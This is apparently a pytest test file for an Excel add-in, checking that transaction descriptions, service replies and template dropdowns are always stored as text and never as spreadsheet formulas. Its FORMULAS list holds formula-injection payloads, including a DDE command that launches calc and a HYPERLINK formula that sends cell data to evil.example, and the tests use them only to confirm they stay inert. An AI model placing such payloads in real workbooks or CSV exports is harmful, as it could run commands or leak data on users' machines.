"""Text is text, wherever it comes from and wherever it goes: no sheet ever runs it."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import outsider as outside
import pytest
from hypothesis import given
from hypothesis import strategies as st
from iziago_office import TRANSFERS, pay
from office import Office, statuses
from outsider import Outsider, Treatment

from xl_addin.build.template import write_template
from xl_addin.fetching.export import export
from xl_addin.fetching.listing import Column, Kind, Listing, Query
from xl_addin.fetching.systems import SYSTEMS
from xl_addin.schema import SHEETS
from xl_addin.workbook.text import decode

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "{=1+1}",
    "\t=1+1",
    "\r=1+1",
    "Rent;=cmd|' /C calc'!A0;x",
    'Rent;"=1+1"',
    "Rent\n=1+1",
    "＝1+1",
    "https://evil.example",
]
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
COLUMNS = (Column("Description"), Column("Id", Kind.IDENTIFIER))


def assert_only_text(path: Path) -> None:
    """Fails when any sheet of a workbook has a formula, or a link that nobody asked for."""
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                content = package.read(name)
                assert not re.search(rb"<f[ >/]", content), name
                assert b"<hyperlink" not in content, name


def rows() -> list[dict[str, Any]]:
    """A row with each text, by its number."""
    return [
        {"date": date(2026, 11, 2), "description": text, "amount": Decimal(-number - 1)}
        for number, text in enumerate(FORMULAS)
    ]


def test_from_a_sheet_to_the_service_and_back(office: Office, tmp_path: Path) -> None:
    """What somebody typed reaches the service to the letter, and comes back into every file as text."""
    path = office.workbook(rows())
    assert set(statuses(office.run(path))) == {"sent"}
    assert {row["description"] for row in office.stored()} == set(FORMULAS)
    system = SYSTEMS["organizze"]
    with system.open(office.settings) as source:
        query = Query(None, date(2026, 11, 1), date(2026, 11, 30))
        listing = system.lists["transactions"](source, query)
    for ending in ("xlsx", "csv"):
        export(listing, tmp_path / f"fetched.{ending}", overwrite=False)
    assert_only_text(path)
    assert_only_text(tmp_path / "fetched.xlsx")
    cells = [cell for row in openpyxl.load_workbook(tmp_path / "fetched.xlsx").worksheets[0] for cell in row]
    shown = {decode(cell.value): cell for cell in cells if isinstance(cell.value, str)}
    for text in FORMULAS:
        cell = shown[text]
        assert (cell.data_type, cell.number_format) == ("s", "@")
    with (tmp_path / "fetched.csv").open(encoding="utf-8-sig", newline="") as stream:
        texts = [value for row in csv.reader(stream) for value in row if any(text in value for text in SIGNS)]
    assert not [text for text in texts if text.startswith(SIGNS) and not re.fullmatch(r"-?[\d.]+", text)]


@given(st.lists(st.text(st.sampled_from([*"=+-@;,\t\r\n \"'ab1", "＝"]), max_size=20), min_size=1))
def test_no_spreadsheet_finds_a_formula_in_a_csv_file(
    tmp_path_factory: pytest.TempPathFactory, texts: list[str]
) -> None:
    """However a spreadsheet parts the cells, at commas or at semicolons, none of them begins a formula."""
    file = tmp_path_factory.mktemp("csv") / "out.csv"
    export(Listing("Texts", COLUMNS, [(text, 1) for text in texts]), file, overwrite=True)
    content = file.read_bytes().decode("utf-8-sig")
    by_comma = [cell for row in csv.reader(content.splitlines(keepends=True)) for cell in row]
    by_semicolon = re.split(r"[;\t\r\n]", content)
    for cell in [*by_comma, *by_semicolon]:
        assert not cell.strip(" \"'").startswith(SIGNS) or "'" in cell.partition(cell.strip(" \"'"))[0], cell


def test_what_a_service_answers_becomes_no_formula_in_the_users_workbook(
    office: Office, outsider: Outsider
) -> None:
    """Ids and refusals are written as text, even where a service means harm with them."""
    count = len(FORMULAS)
    payments = [pay(amount=f"{number + 10}", reason=f"Row {number}") for number in range(2 * count)]
    path = office.workbook(payments, template=TRANSFERS)

    def choose(request: bytes) -> Treatment:
        number = re.search(rb"Row (\d+)", request)
        if not request.startswith(b"POST ") or not number:
            return outside.pass_on
        text = FORMULAS[int(number[1]) % count]
        if int(number[1]) < count:
            return answering(b"201 Created", {"id": text, "status": text})
        return answering(b"422 Unprocessable", {"errors": {text: [text]}})

    outsider.choose = choose
    assert statuses(office.run(path)) == ["sent"] * count + ["rejected"] * count
    assert_only_text(path)
    lines = list(openpyxl.load_workbook(path).worksheets[0].iter_rows(min_row=2))
    for text, sent, refused in zip(FORMULAS, lines[:count], lines[count:], strict=True):
        [given] = [cell for cell in sent if decode(str(cell.value)) == text]
        assert (given.data_type, given.number_format) == ("s", "@")
        assert [cell for cell in refused if text.strip() in decode(str(cell.value))]


def answering(status: bytes, body: object) -> Treatment:
    """Answers in the service's place."""
    data = json.dumps(body).encode()
    head = b"HTTP/1.1 %s\r\nConnection: close\r\nContent-Length: %d\r\n\r\n" % (status, len(data))
    return lambda exchange: exchange.reply(head + data)


def test_templates_offer_and_hold_text(tmp_path: Path) -> None:
    """A service's names in dropdowns, and rows that are filled in already, are text and nothing else."""
    path = tmp_path / "template.xlsx"
    names = dict.fromkeys(("accounts", "categories", "credit_cards"), FORMULAS)
    write_template(SHEETS["organizze_transactions"], path, lists=names, rows=rows())
    assert_only_text(path)
    book = openpyxl.load_workbook(path)
    offered = [decode(str(cell.value)) for column in book["_lists"].iter_cols() for cell in column[1:]]
    assert [text for text in FORMULAS if text not in offered] == []
    assert {decode(str(cell.value)) for cell in book.worksheets[0]["B"]} >= set(FORMULAS)
